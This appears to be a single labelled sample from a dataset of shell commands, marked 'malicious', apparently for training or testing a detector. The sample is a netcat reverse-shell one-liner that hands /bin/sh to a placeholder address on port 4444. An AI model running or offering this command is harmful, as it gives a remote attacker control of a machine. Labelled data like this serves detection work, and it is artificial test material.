# label: malicious
nc -e /bin/sh 203.0.113.5 4444
